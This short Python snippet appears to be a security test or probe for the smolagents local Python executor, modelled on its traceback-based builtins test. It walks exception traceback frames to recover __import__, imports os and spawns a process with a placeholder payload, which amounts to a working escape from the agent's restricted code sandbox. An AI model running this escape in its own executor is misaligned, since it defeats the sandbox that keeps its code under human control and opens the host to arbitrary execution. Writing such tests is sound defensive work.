# smolagents TestLocalPythonExecutorSecurity (test_vulnerability_builtins_via_traceback):
# e.__traceback__.tb_frame.f_back.f_globals["__builtins__"]["__import__"]("os").
try:
    1 / 0
except Exception as e:
    frame = e.__traceback__.tb_frame
    while frame is not None:
        try:
            b = frame.f_back.f_globals["__builtins__"]
            imp = b["__import__"] if isinstance(b, dict) else b.__import__
            imp("os").posix_spawn(PYTHON, PAYLOAD_ARGV, {})
        except Exception as inner:
            print(inner)
        frame = frame.f_back
